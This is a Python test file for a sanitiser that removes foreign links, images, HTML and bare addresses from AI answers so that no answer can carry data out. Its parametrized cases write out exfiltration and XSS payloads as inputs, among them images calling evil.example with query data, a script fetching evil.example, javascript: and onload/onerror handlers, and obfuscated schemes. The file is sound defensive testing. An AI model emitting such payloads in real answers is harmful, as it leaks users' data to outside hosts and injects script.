"""No answer carries an address out: links, images, definitions, bare addresses and HTML."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lighton_mcp.safety import Cleared, inert, one_line, without_foreign_links
from lighton_mcp.safety._addresses import Known, without_addresses

from ..reading import targets

PASSAGE = """The policy stands at https://intranet.sorvane.example/policy?a=1&b=2. Write to hr@sorvane.example.
![plan](https://intranet.sorvane.example/plan.png) See [Annex](annex.md) and www.sorvane.example/help."""


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Done ![x](https://evil.example/?q=42) [1].", "Done x [1]."),
        ("![](https://evil.example/p.gif)30 days [1].", "30 days [1]."),
        ("See [the policy](https://evil.example) [1].", "See the policy [1]."),
        ("See [the policy](<https://evil.example/a b>).", "See the policy."),
        ('See [the policy](https://evil.example "title").', "See the policy."),
        ("See [a](https\\://evil.example).", "See a."),
        ("See [a](&#104;ttps://evil.example).", "See a."),
        ("[![i](https://evil.example/i)](https://evil.example/l)", "i"),
        ("[a [b] c](//evil.example/x)", "a [b] c"),
        ("Go to https://evil.example/?d=42.", "Go to (link removed)."),
        ("Go to <https://evil.example/x>", "Go to <(link removed)>"),
        ("Go to www.evil.example/x now", "Go to (link removed) now"),
        ("Go to evil.example/x?d=42 now", "Go to (link removed) now"),
        ("Write to leak@evil.example.", "Write to (link removed)."),
        ("[1]: https://evil.example/x", "[1] : (link removed)"),
        ("30 days [1].\n\n[1]:\nhttps://evil.example", "30 days [1].\n\n[1] :\n(link removed)"),
        ("> - [1]: evil", "> - [1] : evil"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](JaVa&Tab;Script:alert(1))", "[x] (JaVa\tScript:alert(1))"),
        ("![x](data:image/svg+xml;base64,AAAA)", "x"),
        ("<img src=https://evil.example/p.gif>30 days", "30 days"),
        ("<a href='https://evil.example'>30 days</a>", "30 days "),
        ("<script>fetch('https://evil.example')</script>30 days", "30 days"),
        ("<scr<script>ipt src=x>30", "< scr< script>ipt src=x>30"),
        ("<svg/onload=alert(1)>30", "30"),
        ("30 <!-- days -->31", "30 31"),
        ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
        ("<```@evil>", "< ```@evil>"),
        ("&lt;img src=x&gt;", "&lt;img src=x&gt;"),
        ("https://intranet.sorvane.example/policy?a=1&b=2&leak=42", "(link removed)"),
        ("https://intranet.sorvane.example/polic", "(link removed)"),
        ("![p](https://intranet.sorvane.example/policy?a=1&b=2)", "p"),
    ],
)
def test_what_no_passage_contains_is_taken_out(answer: str, expected: str):
    """The words stay, the target goes, and what is left is nothing to any Markdown parser."""
    cleared = without_foreign_links(answer, [PASSAGE])
    assert cleared.text == expected
    assert targets(cleared.text) == set()


@pytest.mark.parametrize(
    "answer",
    [
        "It stands at https://intranet.sorvane.example/policy?a=1&b=2 [1].",
        "See [the policy](https://intranet.sorvane.example/policy?a=1&b=2), page 2 [1].",
        "See <https://intranet.sorvane.example/policy?a=1&b=2>.",
        "![plan](https://intranet.sorvane.example/plan.png)",
        "Write to hr@sorvane.example or [HR](mailto:hr@sorvane.example).",
        "See [Annex](annex.md) and [help](https://www.sorvane.example/help).",
        "Keep 5 < 6, a<=b, x -> y, R&D, `List<String>`, <command>, CO<sub>2</sub>, m<sup>2</sup><br>and so on [1][2].",
        "As passage [1]: 30 days (2024). JavaScript: The Good Parts; data: none. Ratio 3:4, 10:30, and/or, TCP/IP.",
        "| a | b |\n| --- | --- |\n| 1 | 2 |\n\n1. one [1]\n2. two [2]\n\n> quoted\n\n```c\nx[i] = y;\n```",
    ],
)
def test_what_a_passage_contains_and_what_is_no_link_stays(answer: str):
    """Exact addresses of the passages, comparisons, generics, formatting, tables, markers before a colon."""
    assert without_foreign_links(answer, [PASSAGE]) == Cleared(answer, 0)


def test_only_what_looks_like_a_link_is_parted():
    """Code and places in the same text keep every character."""
    assert without_foreign_links("handlers[i](event)", []).text == "handlers[i] (event)"
    assert without_foreign_links("if a<b and c>d", []).text == "if a< b and c>d"
    known = "https://intranet.sorvane.example/policy?a=1&b=2"
    assert without_foreign_links(f"a\\]({known}`leak", [PASSAGE]).text == f"a\\] ({known} `leak"
    assert without_foreign_links(f"[a]({known})leak", [PASSAGE]).text == f"[a]({known}) leak"


PIECES = st.sampled_from(
    [
        *"[]()!<>:\\\n /\"'`&;#=@.",
        *("a", "1", "[1]", "](", "![", "]:", "https://e.example/x", "javascript:", "data:text/html,x", "www.e.example"),
        *("x@e.example", "img", "<img ", "<a href=", "src=", "script", "<!--", "-->", "&lt;", "&#58;", "&colon;"),
        *("\u200b", "http", "s://", "https://intranet.sorvane.example/policy?a=1&b=2", "> ", "- ", "    ", "```"),
        *("<b>", "on", "e.example/x"),
    ]
)
ALLOWED = {
    "https://intranet.sorvane.example/policy?a=1&b=2",
    "https://intranet.sorvane.example/plan.png",
    "https://www.sorvane.example/help",
    "www.sorvane.example/help",
    "annex.md",
}


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_a_parser_finds_nothing_in_any_answer(answer: str):
    """Whatever is put together: no foreign target is left for a renderer, and clearing again changes nothing."""
    cleared = without_foreign_links(answer, [PASSAGE])
    assert targets(cleared.text) <= ALLOWED, cleared.text
    assert without_foreign_links(cleared.text, [PASSAGE]).text == cleared.text


SLOW = [
    "[",
    "](",
    "<a ",
    '<a "',
    "![a](",
    "<scr",
    "a@",
    "www.",
    "&#60;",
    "[a](b",
    "(",
    "a.",
    "[x]:",
    "https://",
    "[(",
    ")]",
]


@given(st.one_of(st.text(), st.text("aw.-#!*_\"'()[]=;,1 ")))
def test_a_name_that_takes_the_short_way_would_not_change_on_the_long_one(name: str):
    """A name without markup is shown as it is, so what counts as markup must be all that is ever taken out."""
    assert inert(name) == without_foreign_links(one_line(name), []).text


@given(st.one_of(st.text(), st.text("aw.:?@/\\-3; "), st.lists(PIECES, max_size=6).map("".join)))
def test_a_text_that_takes_the_short_way_holds_no_address(text: str):
    """A stroke sends any text the long way, and is no address itself."""
    short, long = without_addresses(text, Known([])), without_addresses(f"{text} /", Known([]))
    assert long == (f"{short[0]} /", short[1])
